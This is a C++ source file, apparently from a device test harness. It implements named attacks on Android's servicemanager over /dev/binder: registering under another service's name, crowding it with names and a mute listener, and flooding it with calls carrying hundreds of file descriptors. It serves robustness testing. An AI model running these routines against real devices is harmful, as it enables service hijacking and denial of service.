// SPDX-License-Identifier: Apache-2.0
//
// Attacks on servicemanager, the context manager of /dev/binder, and the client that holds a name
// there meanwhile. The name is the target's.

#include <sys/eventfd.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <memory>
#include <string>
#include <string_view>
#include <thread>

#include "tests/device/attacker/attack.h"

namespace halyard::attacker {

namespace {

constexpr const char* kBinder = "/dev/binder";
constexpr uint32_t kServiceManager = 0;  // its handle

// Of android.os.IServiceManager, in Android 14.
constexpr uint32_t kGetService = 1;
constexpr uint32_t kAddService = 3;
constexpr uint32_t kListServices = 4;
constexpr uint32_t kRegisterForNotifications = 5;
constexpr uint32_t kUnknownCode = 4711;

constexpr int32_t kSystemStability = 12;
constexpr int32_t kAllPriorities = 15;

void string16(RawParcel& parcel, std::string_view text) {
    parcel.int32(static_cast<int32_t>(text.size()));
    const auto unit = [&](size_t at) {
        return at < text.size() ? static_cast<uint32_t>(static_cast<uint8_t>(text[at])) : 0U;
    };
    // Two units a word, the zero behind them included.
    for (size_t at = 0; at <= text.size(); at += 2) {
        parcel.int32(static_cast<int32_t>(unit(at) | unit(at + 1) << 16U));
    }
}

void head(RawParcel& parcel, std::string_view interface = "android.os.IServiceManager") {
    parcel.int32(static_cast<int32_t>(0x80000000));
    parcel.int32(-1);
    parcel.int32(0x53595354);  // SYST
    string16(parcel, interface);
}

// Whether servicemanager took the name.
bool addService(Link& link, std::string_view name, uint64_t object) {
    RawParcel parcel;
    head(parcel);
    string16(parcel, name);
    parcel.ownObject(object);
    parcel.int32(kSystemStability);
    parcel.int32(0);  // not for isolated processes
    parcel.int32(kAllPriorities);
    const Result<Received> added = link.call(kServiceManager, kAddService, parcel);
    return added.ok() && added->bytes().size() >= sizeof(int32_t) && added->int32At(0) == 0;
}

bool listen(Link& link, std::string_view name, uint64_t object) {
    RawParcel parcel;
    head(parcel);
    string16(parcel, name);
    parcel.ownObject(object);
    parcel.int32(kSystemStability);
    const Result<Received> listens = link.call(kServiceManager, kRegisterForNotifications, parcel);
    return listens.ok() && listens->bytes().size() >= sizeof(int32_t) && listens->int32At(0) == 0;
}

// Whether the name is an object of this process: those come home as what they are.
Result<bool> isOurs(Link& link, std::string_view name) {
    RawParcel parcel;
    head(parcel);
    string16(parcel, name);
    HALYARD_ASSIGN_OR_RETURN(const Received found, link.call(kServiceManager, kGetService, parcel));
    constexpr size_t kObject = 4;      // behind the exception
    constexpr size_t kIdInObject = 8;  // its low half; null has none
    return found.int32At(0) == 0 &&
           static_cast<uint32_t>(found.int32At(kObject)) == BINDER_TYPE_BINDER &&
           found.int32At(kObject + kIdInObject) != 0;
}

uint64_t muteObject(Link& link) {
    return link.addObject([](const Received& /*call*/, RawParcel& /*reply*/) { return false; });
}

// An honest service: it has its name, registers it anew now and then, and finds itself there.
Status holdTheName(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Link> link, Link::open(kBinder));
    const uint64_t object = muteObject(*link);
    int calls = 0;
    Clock::duration longest{};
    for (const Clock::time_point end = endOf(settings); Clock::now() < end; ++calls) {
        const Clock::time_point begin = Clock::now();
        if (!addService(*link, settings.instance, object)) {
            return internalError("the name was refused at the " + std::to_string(calls + 1) +
                                 ". time");
        }
        HALYARD_ASSIGN_OR_RETURN(const bool ours, isOurs(*link, settings.instance));
        if (!ours) {
            return internalError("the name was another's at the " + std::to_string(calls + 1) +
                                 ". time");
        }
        longest = std::max(longest, Clock::now() - begin);
        if (longest > settings.patience) {
            return internalError("servicemanager took too long");
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    printf("held the name %d times, the longest wait %lld ms\n", calls,
           static_cast<long long>(
                   std::chrono::duration_cast<std::chrono::milliseconds>(longest).count()));
    return {};
}

Status takeTheName(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Link> link, Link::open(kBinder));
    const uint64_t object = muteObject(*link);
    int taken = 0;
    int tried = 0;
    for (const Clock::time_point end = endOf(settings); Clock::now() < end; ++tried) {
        taken += addService(*link, settings.instance, object) ? 1 : 0;
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    printf("took the name %d of %d times\n", taken, tried);
    return {};
}

// --clients names of this process's, and a listener for the target's name that hears nothing of
// what it is told: with --processes as many have some.
Status keepNames(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Link> link, Link::open(kBinder));
    const uint64_t object = muteObject(*link);
    const bool listens = listen(*link, settings.instance, object);
    int taken = 0;
    for (int i = 0; i < settings.clients; ++i) {
        const std::string name = "crowd." + std::to_string(getpid()) + "-" + std::to_string(i);
        taken += addService(*link, name, object) ? 1 : 0;
    }
    printf("has %d names and %s\n", taken, listens ? "listens" : "does not listen");
    std::this_thread::sleep_for(std::chrono::seconds(settings.seconds));
    return {};
}

// Calls that carry descriptors: behind the arguments, in place of them, with a head that is
// another's, of a code that is none, and oneway.
Status floodWithDescriptors(const Settings& settings) {
    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Link> link, Link::open(kBinder));
    constexpr size_t kDescriptors = 254;
    const int fd = eventfd(0, EFD_CLOEXEC);
    Tally answered;
    for (int i = 0; i < settings.clients; ++i) {
        RawParcel parcel;
        switch (i % 4) {
            case 0:
                head(parcel);
                parcel.int32(kAllPriorities);
                break;
            case 1:
                head(parcel);
                break;
            case 2:
                head(parcel, "nobody.INothing");
                break;
            default:
                break;
        }
        for (size_t each = 0; each < kDescriptors; ++each) {
            parcel.descriptor(fd);
        }
        const uint32_t code = i % 5 == 4 ? kUnknownCode : kListServices;
        answered.add(i % 2 == 0 ? link->call(kServiceManager, code, parcel).status()
                                : link->callOneway(kServiceManager, code, parcel).status());
    }
    printf("%d calls with %zu descriptors each, %d answered; the last: %s\n", settings.clients,
           kDescriptors, answered.taken, answered.last.c_str());
    return {};
}

constexpr std::array<NamedAttack, 4> kServiceManagerAttacks = {{
        {"aidl-name-holder", holdTheName,
         "has the target's name at servicemanager, and finds itself there"},
        {"aidl-name-thief", takeTheName, "registers itself under that name"},
        {"aidl-name-crowd", keepNames,
         "--clients names at servicemanager and a mute listener, kept; for --processes"},
        {"aidl-fd-flood", floodWithDescriptors,
         "--clients calls of servicemanager with descriptors"},
}};

}  // namespace

std::span<const NamedAttack> serviceManagerAttacks() {
    return kServiceManagerAttacks;
}

}  // namespace halyard::attacker
